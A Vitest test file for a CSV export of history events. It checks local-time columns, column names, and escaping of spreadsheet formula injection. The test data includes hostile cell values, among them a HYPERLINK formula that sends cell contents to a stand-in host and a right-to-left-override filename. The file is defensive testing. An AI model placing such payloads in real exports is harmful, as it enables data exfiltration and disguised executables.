import { parse } from 'csv-parse/sync'
import { describe, expect, it } from 'vitest'
import type { HistoryEvent } from '../../shared/domain/history.ts'
import { csvTable } from './csv-table.ts'

const event: HistoryEvent = {
  seq: 7,
  at: '2026-07-01T22:30:05.123Z',
  monotonicMs: 12.5,
  runId: 'run-1',
  type: 'asset-first-seen',
  operationId: null,
  accountId: null,
  accountName: 'Studio',
  assetKind: 'replica',
  assetId: 'r79e1c033f',
  assetName: 'Anna',
  body: {},
  prevHash: '0'.repeat(64),
  hash: '0'.repeat(64)
}

const columnsOf = (changes: Partial<HistoryEvent>, zone?: string): Record<string, string> => {
  const one = { ...event, ...changes }
  const { head, rows } = csvTable(
    new Set(Object.keys(one.body)),
    zone === undefined ? {} : { zone }
  )
  const [row] = parse(head + rows([one]), { bom: true, columns: true }) as Record<string, string>[]
  return row ?? {}
}

describe('a row', () => {
  it('says what the window says, with local time beside UTC', () => {
    expect(columnsOf({}, 'Asia/Kolkata')).toEqual({
      Record: '7',
      'Local time': '2026-07-02 04:00:05',
      'Time zone': 'UTC+05:30',
      UTC: '2026-07-01 22:30:05',
      Name: 'Anna',
      'What happened': 'added to library',
      Outcome: '',
      'Type of item': 'Replica',
      Account: 'Studio',
      ID: 'r79e1c033f',
      'Operation ID': ''
    })
  })

  it.each([
    ['2026-01-01T22:30:05.123Z', 'America/St_Johns', '2026-01-01 19:00:05', 'UTC-03:30'],
    ['2026-07-01T22:30:05.123Z', 'America/St_Johns', '2026-07-01 20:00:05', 'UTC-02:30'],
    ['2026-07-01T22:30:05.123Z', 'UTC', '2026-07-01 22:30:05', 'UTC+00:00']
  ])('%s in %s is %s', (at, zone, local, offset) => {
    expect(columnsOf({ at }, zone)).toMatchObject({ 'Local time': local, 'Time zone': offset })
  })

  it('has a column for each fact, in words, and numbers and times that can be counted with', () => {
    const body = {
      reason: 'restart',
      said: 'Not now',
      httpStatus: 503,
      runAt: '2026-12-24T18:00:00.000Z',
      isKept: false,
      trainVideoHost: 'files.example',
      wasSent: true,
      sent: 'no',
      nothing: null
    }
    expect(columnsOf({ type: 'deletion-unclear', body })).toMatchObject({
      'Tavus or Replicate said': 'Not now',
      'HTTP status': '503',
      'Scheduled for': '2026-12-24 18:00:00 UTC',
      'In the keychain': 'No',
      'Train video host': 'files.example',
      // Two facts of one name stay two columns.
      'Sent (wasSent)': 'Yes',
      'Sent (sent)': 'No',
      Nothing: '',
      Outcome: 'Needs attention'
    })
  })
})

const names: readonly (readonly [string, string])[] = [
  ['=HYPERLINK("http://x?"&A1)', `'=HYPERLINK("http://x?"&A1)`],
  ['+1', "'+1"],
  ['-1+1', "'-1+1"],
  ['@SUM(1)', "'@SUM(1)"],
  ['\t=1', "'\t'=1"],
  ['\r=1', "'\r'=1"],
  ['\n=1', "'\n'=1"],
  ['x;=HYPERLINK("http://x")', `x;'=HYPERLINK("http://x")`],
  ['x; +1;-1', "x; '+1;'-1"],
  ['x;"=1"', `x;"'=1"`],
  ['x\t@SUM(1)', "x\t'@SUM(1)"],
  ['x\r\n=1', "x\r\n'=1"],
  ['x;＝1', "x;'＝1"],
  ['x;y=1', 'x;y=1'],
  ['  =1', "'  =1"],
  ['\u00a0=1', "'\u00a0=1"],
  ['\u3000=1', "'\u3000=1"],
  ['\u0001=1', "'\u0001'=1"],
  [' \u0001=1', "' \u0001'=1"],
  ['＝1', "'＝1"],
  ['＋1', "'＋1"],
  ['－1', "'－1"],
  ['＠A1', "'＠A1"],
  ['"', '"'],
  [';', ';'],
  ['a\nb', 'a\nb'],
  ['a=b', 'a=b'],
  ["'=1", "'=1"],
  ['x'.repeat(500), 'x'.repeat(500)],
  ['\u202Egnp.exe', '\u202Egnp.exe']
]

/** What Excel, Numbers or LibreOffice would turn into a number, a day, a time or a truth value. */
const changed: readonly string[] = [
  '123456789012345678',
  '783537e4',
  '12E45',
  '0012',
  '3-4',
  '1/2',
  '2026-11-30',
  '10:30',
  '12 am',
  'MAR1',
  'Sept 2',
  '2 Mai',
  'TRUE',
  'falsch',
  '12,5 %',
  '1.000.000'
]

const kept: readonly string[] = [
  'r79e1c033f',
  '783537e4a5',
  'Marie',
  'Marek 2',
  'June Osei',
  'take 12',
  'bat_4a10',
  'True North',
  'Anna 3-4'
]

describe('a cell that others wrote', () => {
  it.each(names)('%j reads %j, and is no formula', (assetName, shown) => {
    expect(columnsOf({ assetName })['Name']).toBe(shown)
  })

  it.each(changed)('%s is left as it is', (assetId) => {
    expect(columnsOf({ assetId })['ID']).toBe(`'${assetId}`)
  })

  it.each(kept)('%s needs no mark for that', (assetId) => {
    expect(columnsOf({ assetId })['ID']).toBe(assetId)
  })

  it.each([';', '\t'])('holds no formula for a spreadsheet that splits at %j', (separator) => {
    const text = `x${separator}=1+1`
    const { head, rows } = csvTable(new Set(['said', text]))
    const one = { ...event, assetName: text, accountName: `"${text}"`, body: { said: text } }
    const cells = (head + rows([one])).split(/[\r\n]+/).flatMap((line) => line.split(separator))
    expect(cells.filter((part) => /^[\s"]*[=+\-@]/.test(part))).toEqual([])
  })
})
